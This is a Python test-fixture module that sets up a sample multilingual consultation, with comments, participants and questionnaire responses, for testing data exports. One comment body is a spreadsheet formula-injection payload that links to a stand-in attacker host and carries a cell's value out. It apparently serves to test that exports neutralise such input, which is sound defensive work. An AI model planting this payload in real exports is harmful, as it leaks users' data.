"""A known consultation for the export tests: what each export must hold, and must not."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from jsonschema import Draft202012Validator

from consult.accounts.models import User
from consult.comments.attribution import Audience
from consult.comments.models import Comment, CommentReport, CommentStatus, Identity
from consult.consultations.models import Consultation
from consult.exports.json_writer import export_schema
from consult.exports.spec import ExportContent, ExportFilters, ExportFormat, ExportSpec
from consult.extensions import db
from consult.papers.models import SectionTranslation
from consult.questionnaires.models import Question, QuestionKind, Response, ResponseStatus
from tests.factories import make_comment, make_consultation, make_participant
from tests.questionnaires.factories import make_question, make_response

SCHEMA_VALIDATOR = Draft202012Validator(
    export_schema(), format_checker=Draft202012Validator.FORMAT_CHECKER
)

ARABIC_COMMENT = "ينبغي أن تشير الفقرة ١ (أ) إلى الاتحاد البرلماني الدولي IPU بوضوح."
FORMULA_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@dataclass
class KnownConsultation:
    consultation: Consultation
    # Published comments, by what they are for.
    on_preamble: Comment
    on_1a_arabic: Comment
    on_1a_anonymous: Comment
    on_1a_organisation_only: Comment
    formula: Comment
    general: Comment
    # Comments that only an export asking for them may hold.
    pending: Comment
    rejected: Comment
    hidden: Comment
    withdrawn: Comment
    questions: list[Question] = field(default_factory=list)
    responses: list[Response] = field(default_factory=list)
    draft: Response | None = None
    authors: dict[str, User] = field(default_factory=dict)

    @property
    def published(self) -> list[Comment]:
        return [
            self.on_preamble,
            self.on_1a_arabic,
            self.on_1a_anonymous,
            self.on_1a_organisation_only,
            self.formula,
            self.general,
        ]


def at(day: int, hour: int = 12) -> datetime:
    return datetime(2024, 9, day, hour, 0, tzinfo=UTC)


def make_known_consultation(slug: str = "ai-paper") -> KnownConsultation:
    """A consultation in English and Arabic with a paper of three sections (one with an
    Arabic heading), comments in every state and identity, and a questionnaire with two
    submitted responses and one draft.

    Comment times are 2 to 12 September 2024; the consultation closed on 19 September.
    """
    consultation = make_consultation(
        slug,
        titles={"en": "AI regulation paper", "ar": "ورقة تنظيم الذكاء الاصطناعي"},
        opens_at=at(1, 0),
        closes_at=at(19, 22),
        sections={
            "preamble": {
                "en": "We, parliamentarians, *welcome* the Compact.",
                "ar": "نحن البرلمانيين نرحب بالميثاق.",
            },
            "1": {"en": "Parliaments should legislate.\n\n- a. with care\n- b. with speed"},
            "1.a": {"en": "Principles-based approaches.", "ar": "النهج القائمة على المبادئ."},
        },
    )
    section_1a = next(s for s in consultation.sections if s.key == "1.a")
    section_1a.translations["en"].heading = "Principles"
    section_1a.translations["ar"].heading = "المبادئ"
    db.session.commit()

    ana = make_participant("ana@example.org")  # Ana López, Congreso, parliament, PE
    layla = make_participant(
        "layla@example.org",
        display_name="ليلى حداد",
        organisation="مجلس النواب",
        stakeholder_group="parliament",
        country="JO",
        preferred_locale="ar",
    )
    kofi = make_participant(
        "kofi@example.org",
        display_name="Kofi Mensah",
        organisation="Tuvalu Digital Rights",
        stakeholder_group="civil_society",
        country="TV",
    )
    mia = make_participant(
        "mia@example.org",
        display_name="Mia Chen",
        organisation="Open Data Lab",
        stakeholder_group="academia",
        country="CA",
    )

    known = KnownConsultation(
        consultation=consultation,
        on_preamble=make_comment(
            consultation,
            ana,
            section_key="preamble",
            body="The preamble should cite the GDC.",
            created_at=at(2),
        ),
        on_1a_arabic=make_comment(
            consultation,
            layla,
            section_key="1.a",
            body=ARABIC_COMMENT,
            language="ar",
            created_at=at(3),
        ),
        on_1a_anonymous=make_comment(
            consultation,
            kofi,
            section_key="1.a",
            body="Small states need support to apply these principles.",
            identity=Identity.ANONYMOUS,
            created_at=at(4),
        ),
        on_1a_organisation_only=make_comment(
            consultation,
            mia,
            section_key="1.a",
            body="Principles need measurable indicators.",
            identity=Identity.ORGANISATION_ONLY,
            created_at=at(5),
        ),
        formula=make_comment(
            consultation, mia, section_key="1", body=FORMULA_COMMENT, created_at=at(6)
        ),
        general=make_comment(
            consultation,
            ana,
            body="A general remark on the whole paper.",
            language="es",
            created_at=at(7),
        ),
        pending=make_comment(
            consultation,
            kofi,
            section_key="1",
            body="PENDING-TEXT waits for a moderator.",
            status=CommentStatus.PENDING,
            created_at=at(8),
        ),
        rejected=make_comment(
            consultation,
            kofi,
            section_key="1",
            body="REJECTED-TEXT was off-topic.",
            status=CommentStatus.REJECTED,
            created_at=at(9),
        ),
        hidden=make_comment(
            consultation,
            mia,
            section_key="1.a",
            body="HIDDEN-TEXT was hidden.",
            status=CommentStatus.HIDDEN,
            created_at=at(10),
        ),
        withdrawn=make_comment(
            consultation,
            ana,
            section_key="1.a",
            body="WITHDRAWN-TEXT was withdrawn.",
            status=CommentStatus.WITHDRAWN,
            created_at=at(11),
        ),
        authors={"ana": ana, "layla": layla, "kofi": kofi, "mia": mia},
    )
    db.session.add(CommentReport(comment=known.on_1a_anonymous, reporter_id=ana.id, note=""))
    db.session.commit()

    themes = make_question(
        consultation,
        QuestionKind.MULTIPLE_CHOICE,
        texts={"en": "Which themes matter most?", "ar": "ما هي المواضيع الأهم؟"},
        options=[
            {"en": "AI governance", "ar": "حوكمة الذكاء الاصطناعي"},
            {"en": "Cybersecurity", "ar": "الأمن السيبراني"},
            {"en": "Digital divide", "ar": "الفجوة الرقمية"},
        ],
    )
    committee = make_question(
        consultation, QuestionKind.LONG_TEXT, texts={"en": "Your committee's work?"}
    )
    scale = make_question(
        consultation, QuestionKind.SCALE, texts={"en": "How urgent is regulation?"}
    )
    attends = make_question(consultation, QuestionKind.YES_NO, texts={"en": "Will you attend?"})
    country = make_question(consultation, QuestionKind.COUNTRY, texts={"en": "Which parliament?"})
    known.questions = [themes, committee, scale, attends, country]
    option_ids = [option.id for option in themes.options]
    known.responses = [
        make_response(
            consultation,
            ana,
            {
                themes: [option_ids[0], option_ids[2]],
                committee: "Comisión de Ciencia.\nSecond line.",
                scale: 4,
                attends: True,
                country: "PE",
            },
            language="es",
            submitted_at=at(3),
        ),
        make_response(
            consultation,
            layla,
            {themes: [option_ids[1]], committee: "لجنة الاتصالات", attends: False, country: "JO"},
            language="ar",
            submitted_at=at(4),
            identity=Identity.ANONYMOUS,
        ),
    ]
    known.draft = make_response(
        consultation, kofi, {committee: "DRAFT-TEXT not sent"}, status=ResponseStatus.DRAFT
    )
    return known


def spec_for(
    known: KnownConsultation,
    format: ExportFormat,
    *,
    audience: Audience = Audience.EDITOR,
    locale: str = "en",
    content: ExportContent = ExportContent.COMMENTS,
    filters: ExportFilters | None = None,
) -> ExportSpec:
    return ExportSpec(
        known.consultation,
        format,
        audience,
        locale,
        content=content,
        filters=filters or ExportFilters(),
    )


def section_translation(known: KnownConsultation, key: str, locale: str) -> SectionTranslation:
    section = next(s for s in known.consultation.sections if s.key == key)
    return section.translations[locale]


def valid_json_export(data: bytes) -> dict[str, Any]:
    """A JSON export, parsed once it has passed its published schema."""
    document: dict[str, Any] = json.loads(data)
    SCHEMA_VALIDATOR.validate(document)
    return document
